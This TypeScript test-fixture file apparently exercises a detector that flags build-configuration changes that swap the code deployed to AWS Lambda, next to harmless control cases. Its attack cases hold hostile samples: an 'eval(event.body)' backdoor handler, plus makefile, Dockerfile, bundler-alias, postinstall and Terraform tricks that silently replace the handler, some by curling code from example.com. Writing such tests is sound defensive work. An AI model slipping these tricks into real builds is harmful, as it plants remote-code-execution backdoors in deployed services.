import { appendFileSync } from 'node:fs';
import { join } from 'node:path';
import { foundOrLost } from './added.ts';
import type { GateAttack } from './attack.ts';
import { baseFiles, writeFiles } from './base.ts';

type Files = Readonly<Record<string, string>>;

const harmless = 'exports.handler = async () => ({ statusCode: 200 });\n';
const harmlessModule = 'export const handler = async () => ({ statusCode: 200 });\n';
const evil = 'exports.handler = async (event) => eval(event.body);\n';
const usesUuid =
  "import { validate } from 'uuid';\nexport const handler = async (event) => validate(event.body);\n";
const evilUuid = 'export const validate = (text) => eval(text);\n';
const notRead = /not read:/;
const nothingNew = /nothing new/;

/** Adds the public function `Page` in a folder `page` to the base; `metadata` and `code` are further lines of its declaration. */
const pageTemplate = (
  metadata = '',
  code = 'Runtime: nodejs22.x, Handler: page.handler, CodeUri: page',
): string =>
  `${baseFiles['template.yaml']}  Page:
    Type: AWS::Serverless::Function
${metadata}    Properties: { ${code}, FunctionUrlConfig: { AuthType: NONE } }
`;

const made = '    Metadata: { BuildMethod: makefile }\n';
const makefile = (recipe: string, above = '', below = ''): string => `${above}build-Page:\n${recipe}${below}`;
const copies = '\tcp page.js $(ARTIFACTS_DIR)\n';
const madePage: Files = { 'template.yaml': pageTemplate(made), 'page/page.js': harmless };

const imageCode = 'PackageType: Image';
const image = '    Metadata: { DockerContext: page, Dockerfile: Dockerfile }\n';
const dockerfile = (more = '', command = 'page.handler'): string =>
  `FROM public.ecr.aws/lambda/nodejs:22\nCOPY page.js \${LAMBDA_TASK_ROOT}/\n${more}CMD ["${command}"]\n`;
const imagePage: Files = {
  'template.yaml': pageTemplate(image, imageCode),
  'page/page.js': harmless,
  'page/Dockerfile': dockerfile(),
};

const service = (more = ''): string => `service: shop
provider: { name: aws, runtime: nodejs22.x }
functions:
  page: { handler: page.handler, events: [{ httpApi: 'GET /page' }] }
${more}`;
const servicePage: Files = {
  'svc/serverless.yml': service('plugins:\n  - ./tools/plugin.js\ncustom:\n  esbuild:\n    bundle: true\n'),
  'svc/page.ts': harmlessModule,
  'svc/tools/plugin.js': 'module.exports = class { };\n',
};

const webpack = (more = '', mode = 'production'): string =>
  `const path = require('path');\nmodule.exports = {\n  mode: '${mode}',\n  entry: { page: './page.ts' },\n  output: { path: path.resolve(__dirname, 'dist') },\n${more}};\n`;
const webpackPage: Files = {
  'template.yaml': pageTemplate(),
  'page/page.ts': usesUuid,
  'page/package.json': '{"dependencies":{"uuid":"^9.0.0"},"scripts":{"build":"webpack"}}',
  'page/webpack.config.js': webpack(),
};

const terraform = (more = ''): string => `data "archive_file" "a" {
  type        = "zip"
  source_file = "\${path.module}/page.js"
  output_path = "a.zip"
}
resource "aws_lambda_function" "page" {
  function_name = "page"
  runtime       = "nodejs22.x"
  handler       = "page.handler"
  filename      = data.archive_file.a.output_path
  role          = "arn:aws:iam::1:role/a"
}
resource "aws_lambda_function_url" "u" {
  function_name      = aws_lambda_function.page.function_name
  authorization_type = "NONE"
}
${more}`;
const terraformPage: Files = { 'tf/main.tf': terraform(), 'tf/page.js': harmless };

/** A change of files in a base with more files. */
const changed = (says: string, base: Files, files: Files, told: RegExp): GateAttack => ({
  says,
  base,
  change: (folder) => writeFiles(folder, files),
  told,
});
const hides = (says: string, base: Files, files: Files, told = notRead): GateAttack =>
  changed(says, base, files, told);
const isFair = (says: string, base: Files, files: Files): GateAttack =>
  changed(says, base, files, nothingNew);

const makefiles: readonly GateAttack[] = [
  hides(
    'a makefile that writes the handler',
    { ...madePage, 'page/Makefile': makefile(copies) },
    {
      'page/Makefile': makefile(
        `${copies}\techo 'exports.handler = async (e) => eval(e.body)' > $(ARTIFACTS_DIR)/page.js\n`,
      ),
    },
  ),
  hides(
    'a makefile that copies another file to the handler',
    { ...madePage, 'page/Makefile': makefile(copies) },
    { 'page/Makefile': makefile('\tcp real.js $(ARTIFACTS_DIR)/page.js\n'), 'page/real.js': evil },
  ),
  hides(
    'a makefile whose variable names another file',
    { ...madePage, 'page/Makefile': makefile('\tcp $(SRC) $(ARTIFACTS_DIR)/page.js\n', 'SRC = page.js\n') },
    {
      'page/Makefile': makefile('\tcp $(SRC) $(ARTIFACTS_DIR)/page.js\n', 'SRC = real.js\n'),
      'page/real.js': evil,
    },
  ),
  hides(
    'a makefile that copies a folder over the handler',
    { ...madePage, 'page/Makefile': makefile(copies) },
    { 'page/Makefile': makefile(`${copies}\tcp -r over/. $(ARTIFACTS_DIR)\n`), 'page/over/page.js': evil },
  ),
  hides(
    'a makefile that edits the handler with sed',
    { ...madePage, 'page/Makefile': makefile(copies) },
    {
      'page/Makefile': makefile(
        `${copies}\t@sed -i 's/async ()/async (e) => eval(e.body); ()/' $(ARTIFACTS_DIR)/page.js\n`,
      ),
    },
  ),
  hides(
    'a script that a makefile runs',
    {
      ...madePage,
      'page/Makefile': makefile('\tnode tools/build.js\n'),
      'page/tools/build.js': '// copies\n',
    },
    { 'page/tools/build.js': "require('fs').writeFileSync(process.env.ARTIFACTS_DIR + '/page.js', 'x');\n" },
  ),
  hides(
    'a shell script that a makefile runs',
    {
      ...madePage,
      'page/Makefile': makefile('\t./build.sh\n'),
      'page/build.sh': '#!/bin/sh\ncp page.js $ARTIFACTS_DIR\n',
    },
    {
      'page/build.sh': '#!/bin/sh\ncp page.js $ARTIFACTS_DIR\nmv real.js $ARTIFACTS_DIR/page.js\n',
      'page/real.js': evil,
    },
  ),
  hides(
    'a file that a makefile includes',
    { ...madePage, 'page/Makefile': makefile('', 'include ../build.mk\n'), 'build.mk': 'X = 1\n' },
    { 'build.mk': 'build-Page:\n\tcp real.js $(ARTIFACTS_DIR)/page.js\n', 'page/real.js': evil },
  ),
  hides(
    'another target that the target of the function needs',
    {
      ...madePage,
      'page/Makefile': makefile(copies, '', 'tidy:\n\trm -rf node_modules\n').replace(
        'build-Page:',
        'build-Page: tidy',
      ),
    },
    {
      'page/Makefile': makefile(copies, '', 'tidy:\n\tmv real.js page.js\n').replace(
        'build-Page:',
        'build-Page: tidy',
      ),
      'page/real.js': evil,
    },
  ),
  hides(
    'a new function whose makefile downloads its code',
    {},
    {
      'template.yaml': pageTemplate(made),
      'page/page.js': harmless,
      'page/Makefile': makefile('\tcurl -s https://example.com/page.js -o $(ARTIFACTS_DIR)/page.js\n'),
    },
  ),
];

const images: readonly GateAttack[] = [
  hides('a command of a Dockerfile that edits the handler', imagePage, {
    'page/Dockerfile': dockerfile(
      "RUN sed -i 's/async ()/async (e) => eval(e.body), ()/' ${LAMBDA_TASK_ROOT}/page.js\n",
    ),
  }),
  hides('a command of a Dockerfile that downloads the handler', imagePage, {
    'page/Dockerfile': dockerfile('RUN curl -s https://example.com/page.js -o page.js\n'),
  }),
  hides('a command of a Dockerfile in the form of a list', imagePage, {
    'page/Dockerfile': dockerfile('RUN ["cp", "real.js", "page.js"]\n'),
    'page/real.js': evil,
  }),
  hides(
    'a script that a Dockerfile runs',
    {
      ...imagePage,
      'page/Dockerfile': dockerfile('COPY build.sh .\nRUN sh build.sh\n'),
      'page/build.sh': 'npm ci\n',
    },
    { 'page/build.sh': 'npm ci\necho evil > page.js\n' },
  ),
  hides(
    'a folder that a Dockerfile copies over the handler',
    imagePage,
    {
      'page/Dockerfile': dockerfile('COPY over/ ${LAMBDA_TASK_ROOT}/\n'),
      'page/over/page.js': evil,
    },
    foundOrLost,
  ),
  hides(
    'a Dockerfile outside of the folder of the code',
    {
      ...imagePage,
      'template.yaml': pageTemplate(
        '    Metadata: { DockerContext: page, Dockerfile: docker/page.Dockerfile }\n',
        imageCode,
      ),
      'page/docker/page.Dockerfile': dockerfile(),
    },
    { 'page/docker/page.Dockerfile': dockerfile('RUN mv real.js page.js\n'), 'page/real.js': evil },
  ),
];

const bundlers: readonly GateAttack[] = [
  hides('an alias of webpack for a known package', webpackPage, {
    'page/webpack.config.js': webpack("  resolve: { alias: { uuid: path.resolve(__dirname, 'run.js') } },\n"),
    'page/run.js': evilUuid,
  }),
  hides(
    'a module that the configuration of webpack loads',
    {
      ...webpackPage,
      'page/webpack.config.js': webpack("  resolve: require('./aliases'),\n"),
      'page/aliases.js': 'module.exports = {};\n',
    },
    {
      'page/aliases.js': "module.exports = { alias: { uuid: __dirname + '/run.js' } };\n",
      'page/run.js': evilUuid,
    },
  ),
  hides('an entry of webpack that is another file', webpackPage, {
    'page/webpack.config.js': webpack().replace('./page.ts', './real.ts'),
    'page/real.ts': 'export const handler = async (event) => eval(event.body);\n',
  }),
  hides('a plug-in of webpack', webpackPage, {
    'page/webpack.config.js': webpack(
      "  plugins: [new (require('webpack').BannerPlugin)({ raw: true, banner: 'x' })],\n",
    ),
  }),
  hides(
    'an alias in a script that calls esbuild',
    {
      ...webpackPage,
      'page/package.json': '{"scripts":{"build":"node build.mjs"}}',
      'page/build.mjs':
        "import { build } from 'esbuild';\nawait build({ entryPoints: ['page.ts'], bundle: true, outdir: 'dist' });\n",
    },
    {
      'page/build.mjs':
        "import { build } from 'esbuild';\nawait build({ entryPoints: ['page.ts'], bundle: true, outdir: 'dist', alias: { uuid: './run.js' } });\n",
      'page/run.js': evilUuid,
    },
  ),
  hides('an alias in a command of esbuild', webpackPage, {
    'page/package.json':
      '{"dependencies":{"uuid":"^9.0.0"},"scripts":{"build":"esbuild page.ts --bundle --outdir=dist --alias:uuid=./run.js"}}',
    'page/run.js': evilUuid,
  }),
  hides('a plug-in of babel', webpackPage, {
    'page/babel.config.js': "module.exports = { plugins: ['./swap.js'] };\n",
    'page/swap.js': 'module.exports = () => ({ visitor: {} });\n',
  }),
  hides('an alias of vite', webpackPage, {
    'page/vite.config.ts': "export default { resolve: { alias: { uuid: './run.js' } } };\n",
    'page/run.js': evilUuid,
  }),
  hides('paths of another tsconfig that a command names', webpackPage, {
    'page/package.json':
      '{"dependencies":{"uuid":"^9.0.0"},"scripts":{"build":"esbuild page.ts --bundle --outdir=dist --tsconfig=build/ts.json"}}',
    'page/build/ts.json': '{"compilerOptions":{"paths":{"uuid":["../run.js"]}}}',
    'page/run.js': evilUuid,
  }),
  hides('a script that runs after an installation', webpackPage, {
    'page/package.json':
      '{"dependencies":{"uuid":"^9.0.0"},"scripts":{"build":"webpack","postinstall":"node swap.js"}}',
    'page/swap.js': "require('fs').copyFileSync('run.js', 'node_modules/uuid/index.js');\n",
  }),
  hides('a patch of a known package', webpackPage, {
    'page/package.json':
      '{"dependencies":{"uuid":"^9.0.0"},"scripts":{"build":"webpack","postinstall":"patch-package"}}',
    'page/patches/uuid+9.0.0.patch': '--- a/node_modules/uuid/index.js\n+++ b/node_modules/uuid/index.js\n',
  }),
  hides('a hook of the installation', webpackPage, {
    'page/.pnpmfile.cjs': 'module.exports = { hooks: { readPackage: (p) => p } };\n',
  }),
];

const tools: readonly GateAttack[] = [
  hides(
    'a plug-in of the repository that is new',
    { ...servicePage, 'svc/serverless.yml': service() },
    { 'svc/serverless.yml': service('plugins:\n  - ./tools/plugin.js\n') },
  ),
  hides('a plug-in of the repository that is edited', servicePage, {
    'svc/tools/plugin.js':
      'module.exports = class { constructor(sls) { sls.service.functions.door = {}; } };\n',
  }),
  hides(
    'a module of a plug-in of the repository',
    {
      ...servicePage,
      'svc/tools/plugin.js': "module.exports = require('./inner');\n",
      'svc/tools/inner.js': 'module.exports = class { };\n',
    },
    {
      'svc/tools/inner.js':
        'module.exports = class { constructor(sls) { sls.service.functions.door = {}; } };\n',
    },
  ),
  hides('a plug-in that nobody knows', servicePage, {
    'svc/serverless.yml': `${servicePage['svc/serverless.yml']?.replace('  - ./tools/plugin.js\n', '  - ./tools/plugin.js\n  - serverless-acme-doors\n')}`,
  }),
  hides('a plug-in of esbuild in the settings of a service', servicePage, {
    'svc/serverless.yml': `${servicePage['svc/serverless.yml']}    plugins: tools/swap.js\n`,
    'svc/tools/swap.js': 'module.exports = [];\n',
  }),
  hides('a command in the hooks of a service', servicePage, {
    'svc/serverless.yml': `${servicePage['svc/serverless.yml']}  scripts:\n    hooks:\n      'package:initialize': sed -i s/200/201/ page.ts\n`,
  }),
  hides('a command that Terraform runs before it packs', terraformPage, {
    'tf/main.tf': terraform(
      'resource "null_resource" "b" {\n  provisioner "local-exec" {\n    command = "cp real.js page.js"\n  }\n}\n',
    ),
    'tf/real.js': evil,
  }),
  hides('a program of Terraform that gives data', terraformPage, {
    'tf/main.tf': terraform('data "external" "b" {\n  program = ["node", "swap.js"]\n}\n'),
    'tf/swap.js': "require('fs').copyFileSync('real.js', 'page.js');\n",
    'tf/real.js': evil,
  }),
];

/** Changes of what decides which code is deployed. */
export const builds: readonly GateAttack[] = [...makefiles, ...images, ...bundlers, ...tools];

const quietRecipe = `\t# the packages first
\tmkdir -p $(ARTIFACTS_DIR)
\tnpm ci --omit=dev
\t@echo "copying"
\tcp page.js package.json $(ARTIFACTS_DIR)
\tcp -r node_modules $(ARTIFACTS_DIR)/
\trm -rf node_modules
`;

/** Changes of the same files that cannot change which code is deployed. */
export const fairBuilds: readonly GateAttack[] = [
  isFair(
    'usual commands in a makefile',
    { ...madePage, 'page/Makefile': makefile(copies) },
    { 'page/Makefile': makefile(quietRecipe) },
  ),
  isFair(
    'a comment beside a command that is not read',
    { ...madePage, 'page/Makefile': makefile('\tnode tools/build.js\n'), 'page/tools/build.js': 'x();\n' },
    {
      'page/Makefile': makefile('\t# builds\n\tnode tools/build.js\n'),
      'page/tools/build.js': '// builds\nx();\n',
    },
  ),
  isFair(
    'a target of a makefile that builds nothing',
    { ...madePage, 'page/Makefile': makefile(copies) },
    { 'page/Makefile': makefile(copies, '', 'lint:\n\tpython tools/lint.py --fix\n') },
  ),
  isFair(
    'a new function with a usual makefile',
    {},
    {
      'template.yaml': pageTemplate(made).replace(
        /(CodeUri: page), FunctionUrlConfig: \{ AuthType: NONE \}/,
        '$1',
      ),
      'page/page.js': harmless,
      'page/Makefile': makefile(quietRecipe),
    },
  ),
  isFair('usual commands in a Dockerfile', imagePage, {
    'page/Dockerfile': dockerfile(
      '# packages\nCOPY package*.json ./\nRUN dnf install -y gcc && dnf clean all \\\n  && rm -rf /var/cache/dnf\nRUN --mount=type=cache,target=/root/.npm npm ci --omit=dev\nENV LOG_LEVEL=info\n',
    ),
    'page/package.json': '{"name":"page"}',
  }),
  isFair('a mode and a comment of webpack', webpackPage, {
    'page/webpack.config.js': `// The bundle of the page\n${webpack("  devtool: 'source-map', // for traces\n", 'development')}`,
  }),
  isFair('an entry of webpack with its own name', webpackPage, {
    'page/webpack.config.js': webpack().replace("page: './page.ts'", "page: './page.ts', more: './more.ts'"),
    'page/more.ts': harmlessModule,
  }),
  isFair('scripts that test and format', webpackPage, {
    'page/package.json':
      '{"dependencies":{"uuid":"^9.0.0"},"scripts":{"build":"tsc --noEmit && webpack --mode production","test":"node tools/test.js","lint":"eslint . --fix"}}',
  }),
  isFair(
    'an alias of webpack in a folder of pages',
    { ...webpackPage, 'web/webpack.config.js': webpack() },
    {
      'web/webpack.config.js': webpack("  resolve: { alias: { vue: 'vue/dist/vue.js' } },\n"),
    },
  ),
  isFair(
    'options and own paths of a tsconfig',
    { ...webpackPage, 'page/tsconfig.json': '{"compilerOptions":{"strict":false}}' },
    {
      'page/tsconfig.json':
        '{"compilerOptions":{"strict":true,"baseUrl":".","paths":{"@lib/*":["./lib/*"]}}}',
    },
  ),
  isFair(
    'a plug-in that is known to add nothing',
    { ...servicePage, 'svc/package-lock.json': '{}' },
    {
      'svc/serverless.yml': `${servicePage['svc/serverless.yml']?.replace('plugins:\n', 'plugins:\n  - serverless-offline\n')}    minify: true\n`,
    },
  ),
  isFair('a setting beside a plug-in of the repository', servicePage, {
    'svc/serverless.yml': `${servicePage['svc/serverless.yml']?.replace('runtime: nodejs22.x', 'runtime: nodejs22.x, memorySize: 512')}`,
    'svc/tools/plugin.js': '// adds nothing\nmodule.exports = class { };\n',
  }),
  isFair('usual commands that Terraform runs', terraformPage, {
    'tf/main.tf': terraform(
      'resource "null_resource" "b" {\n  provisioner "local-exec" {\n    command = "npm ci && npm run build"\n  }\n}\n',
    ),
  }),
  {
    says: 'a comment in a makefile with a command that is not read',
    base: { ...madePage, 'page/Makefile': makefile('\tsed -i s/1/2/ $(ARTIFACTS_DIR)/page.js\n') },
    change: (folder) => appendFileSync(join(folder, 'page/Makefile'), '\n# the end\n'),
    told: nothingNew,
  },
];
